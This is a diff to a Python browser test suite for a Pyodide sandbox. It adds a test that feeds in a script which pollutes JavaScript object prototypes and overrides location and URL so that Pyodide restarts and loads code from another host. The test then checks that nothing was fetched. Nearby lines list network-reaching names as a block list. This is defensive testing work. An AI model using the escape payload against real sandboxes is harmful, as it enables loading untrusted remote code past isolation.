@@ -268,6 +268,30 @@ def test_a_program_cannot_reach_another_host(
     assert [path for path in site.asked if not path.startswith("/ordinary/")] == []
 
 
+STARTS_AGAIN = """
+import js
+from pyodide.ffi import to_js
+made = lambda **values: to_js(values, dict_converter=js.Object.fromEntries)
+base = "OTHER/again/"
+js.Object.prototype.start = made(base=base, info=made(), library=1, wasm=1)
+js.Object.prototype.indexURL = base
+js.location = 1
+js.URL = js.Object
+js.Object.assign = js.Object
+"""
+
+
+def test_no_program_starts_python_again_with_a_script_of_another_host(context: BrowserContext, site: Site) -> None:
+    """`import()` is syntax: a message that starts Pyodide anew would load its parts from wherever the program says."""
+    page = opened(context.new_page(), site, "lawless")
+    play(page, {"main.py": STARTS_AGAIN.replace("OTHER", site.other)})
+    page.evaluate("runner.draw({}).catch(() => {})")
+    play(page, {"main.py": "print(1)"})
+    assert [path for path in site.asked if path.startswith("/again/")] == []
+    worker = (runtime.TARGET / "worker.js").read_text(encoding="utf-8")
+    assert re.findall(r"\bimport\s*\(", worker) == []
+
+
 # What reaches out, keeps something, starts something or is called later: names of a worker's objects and functions.
 OUT_OF_REACH = set(
     "fetch Request Response XMLHttpRequest WebSocket WebSocketStream WebTransport EventSource RTCDataChannel"
